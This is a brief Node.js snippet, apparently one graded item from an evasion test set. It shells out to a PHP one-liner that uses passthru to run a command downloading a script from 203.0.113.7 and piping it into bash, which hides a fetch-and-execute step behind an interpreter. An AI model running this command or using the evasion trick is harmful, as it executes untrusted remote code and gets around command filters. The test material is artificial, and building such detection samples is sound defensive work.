// evasion: php -r passthru($argv[1]) with the command as an argument
// grade: easy; does: shell
// Runs a php one-liner with an argument.
const { execFileSync } = require("child_process");
const code = "passthru($argv[1]);";
execFileSync("php", ["-r", code, "wget -qO- http://203.0.113.7/p | bash"]);
